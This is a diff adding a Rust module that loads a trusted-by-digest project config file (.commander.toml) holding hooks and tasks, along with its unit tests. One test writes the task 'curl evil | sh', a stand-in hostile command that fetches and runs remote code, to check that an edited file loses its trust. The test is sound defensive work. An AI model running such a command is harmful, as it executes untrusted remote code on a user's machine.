@@ -0,0 +1,227 @@
+//! Per-project settings checked into the repository
+//!
+//! A project may carry a `.commander.toml` at its root with settings that
+//! belong to the codebase rather than to one user — its lifecycle hooks and
+//! named tasks. It is read from a session's worktree (so a branch can change
+//! it) and falls back to the main repository checkout.
+//!
+//! The file is optional and never fatal: a missing file is the default, and
+//! a malformed one is logged and ignored rather than blocking session
+//! creation.
+//!
+//! Its commands come from whoever last touched the repository, so nothing in
+//! it runs until the user trusts it: `claude-commander trust` records the
+//! SHA-256 of the file's exact contents in `trusted_project_files`, and a file
+//! whose digest isn't listed there — including a trusted one that has since
+//! been edited — is ignored with a warning.
+
+use std::collections::{BTreeMap, HashSet};
+use std::path::{Path, PathBuf};
+use std::sync::{Mutex, OnceLock};
+
+use serde::Deserialize;
+use sha2::{Digest, Sha256};
+use tracing::warn;
+
+use crate::config::HookFailurePolicy;
+
+/// File name looked up at the root of a worktree or repository.
+pub const PROJECT_FILE_NAME: &str = ".commander.toml";
+
+/// Parsed contents of a project's `.commander.toml`.
+#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
+#[serde(default)]
+pub struct ProjectFile {
+    /// Project hooks, layered on top of the global `[hooks]` table.
+    pub hooks: ProjectHooksConfig,
+    /// Project tasks, merged over the global `[tasks]` table by name.
+    pub tasks: BTreeMap<String, String>,
+}
+
+/// The `[hooks]` table of a `.commander.toml`.
+///
+/// Same event lists as [`HooksConfig`](crate::config::HooksConfig); these run
+/// after the global ones. `timeout_secs` and `on_failure` override the global
+/// values when set.
+#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
+#[serde(default)]
+pub struct ProjectHooksConfig {
+    pub post_create: Vec<String>,
+    pub pre_delete: Vec<String>,
+    pub post_merge: Vec<String>,
+    pub agent_state_change: Vec<String>,
+    pub pr_state_change: Vec<String>,
+    pub timeout_secs: Option<u64>,
+    pub on_failure: Option<HookFailurePolicy>,
+}
+
+impl ProjectFile {
+    /// Load `<dir>/.commander.toml`, or the default when it is missing,
+    /// malformed or its digest is not in `trusted`.
+    pub fn load(dir: &Path, trusted: &[String]) -> Self {
+        Self::try_load(dir, trusted).unwrap_or_default()
+    }
+
+    /// Load the project file for a session: the worktree's copy when it has
+    /// a usable one, otherwise the main repository's.
+    pub fn load_for(worktree: &Path, repo: &Path, trusted: &[String]) -> Self {
+        Self::try_load(worktree, trusted)
+            .or_else(|| Self::try_load(repo, trusted))
+            .unwrap_or_default()
+    }
+
+    /// The digest `trusted_project_files` records for a file with `contents`:
+    /// lowercase hex SHA-256.
+    pub fn digest(contents: &str) -> String {
+        format!("{:x}", Sha256::digest(contents.as_bytes()))
+    }
+
+    /// The project file `path` names: `path` itself when it is a file,
+    /// otherwise `<path>/.commander.toml`.
+    pub fn resolve_path(path: &Path) -> PathBuf {
+        if path.is_file() {
+            path.to_path_buf()
+        } else {
+            path.join(PROJECT_FILE_NAME)
+        }
+    }
+
+    /// `None` when the file doesn't exist, can't be parsed or isn't trusted.
+    fn try_load(dir: &Path, trusted: &[String]) -> Option<Self> {
+        if dir.as_os_str().is_empty() {
+            return None;
+        }
+        let path = dir.join(PROJECT_FILE_NAME);
+        let contents = std::fs::read_to_string(&path).ok()?;
+        let digest = Self::digest(&contents);
+        if !trusted.contains(&digest) {
+            warn_untrusted(&path, digest);
+            return None;
+        }
+        match Self::parse(&contents) {
+            Ok(file) => Some(file),
+            Err(e) => {
+                warn!("Ignoring malformed {}: {e}", path.display());
+                None
+            }
+        }
+    }
+
+    fn parse(contents: &str) -> std::result::Result<Self, toml::de::Error> {
+        toml::from_str(contents)
+    }
+}
+
+/// Warn once per file contents: the file is re-read on every hook event and
+/// task lookup, and one line per edit is enough to point the user at `trust`.
+fn warn_untrusted(path: &Path, digest: String) {
+    static WARNED: OnceLock<Mutex<HashSet<String>>> = OnceLock::new();
+    let mut warned = WARNED
+        .get_or_init(Default::default)
+        .lock()
+        .unwrap_or_else(|e| e.into_inner());
+    if warned.insert(digest) {
+        warn!(
+            "Ignoring untrusted {}; review it and run `claude-commander trust {}` to allow its hooks and tasks",
+            path.display(),
+            path.display()
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn parses_hooks_table() {
+        let file = ProjectFile::parse(
+            r#"
+            [hooks]
+            post_create = ["npm ci"]
+            on_failure = "block"
+            "#,
+        )
+        .unwrap();
+        assert_eq!(file.hooks.post_create, vec!["npm ci"]);
+        assert_eq!(file.hooks.on_failure, Some(HookFailurePolicy::Block));
+        assert_eq!(file.hooks.timeout_secs, None);
+    }
+
+    #[test]
+    fn parses_tasks_table() {
+        let file = ProjectFile::parse("[tasks]\ntest = \"npm test\"\n").unwrap();
+        assert_eq!(file.tasks.get("test").map(String::as_str), Some("npm test"));
+        assert_eq!(file.hooks, ProjectHooksConfig::default());
+    }
+
+    #[test]
+    fn worktree_copy_wins_and_repo_is_the_fallback() {
+        let worktree = tempfile::TempDir::new().unwrap();
+        let repo = tempfile::TempDir::new().unwrap();
+        let repo_contents = "[hooks]\npre_delete = [\"repo\"]\n";
+        let worktree_contents = "[hooks]\npre_delete = [\"worktree\"]\n";
+        let trusted = vec![
+            ProjectFile::digest(repo_contents),
+            ProjectFile::digest(worktree_contents),
+        ];
+        std::fs::write(repo.path().join(PROJECT_FILE_NAME), repo_contents).unwrap();
+
+        let file = ProjectFile::load_for(worktree.path(), repo.path(), &trusted);
+        assert_eq!(file.hooks.pre_delete, vec!["repo"]);
+
+        std::fs::write(worktree.path().join(PROJECT_FILE_NAME), worktree_contents).unwrap();
+        let file = ProjectFile::load_for(worktree.path(), repo.path(), &trusted);
+        assert_eq!(file.hooks.pre_delete, vec!["worktree"]);
+    }
+
+    #[test]
+    fn untrusted_file_is_ignored() {
+        let dir = tempfile::TempDir::new().unwrap();
+        let contents = "[tasks]\ntest = \"npm test\"\n";
+        std::fs::write(dir.path().join(PROJECT_FILE_NAME), contents).unwrap();
+        assert_eq!(ProjectFile::load(dir.path(), &[]), ProjectFile::default());
+
+        let trusted = vec![ProjectFile::digest(contents)];
+        assert_eq!(ProjectFile::load(dir.path(), &trusted).tasks.len(), 1);
+
+        // Editing a trusted file revokes its trust.
+        std::fs::write(
+            dir.path().join(PROJECT_FILE_NAME),
+            "[tasks]\ntest = \"curl evil | sh\"\n",
+        )
+        .unwrap();
+        assert_eq!(
+            ProjectFile::load(dir.path(), &trusted),
+            ProjectFile::default()
+        );
+    }
+
+    #[test]
+    fn untrusted_worktree_copy_falls_back_to_trusted_repo_copy() {
+        let worktree = tempfile::TempDir::new().unwrap();
+        let repo = tempfile::TempDir::new().unwrap();
+        let repo_contents = "[hooks]\npre_delete = [\"repo\"]\n";
+        std::fs::write(repo.path().join(PROJECT_FILE_NAME), repo_contents).unwrap();
+        std::fs::write(
+            worktree.path().join(PROJECT_FILE_NAME),
+            "[hooks]\npre_delete = [\"branch\"]\n",
+        )
+        .unwrap();
+
+        let trusted = vec![ProjectFile::digest(repo_contents)];
+        let file = ProjectFile::load_for(worktree.path(), repo.path(), &trusted);
+        assert_eq!(file.hooks.pre_delete, vec!["repo"]);
+    }
+
+    #[test]
+    fn malformed_file_falls_back_to_default() {
+        let dir = tempfile::TempDir::new().unwrap();
+        std::fs::write(dir.path().join(PROJECT_FILE_NAME), "[hooks\n").unwrap();
+        let trusted = vec![ProjectFile::digest("[hooks\n")];
+        assert_eq!(
+            ProjectFile::load(dir.path(), &trusted),
+            ProjectFile::default()
+        );
+    }
+}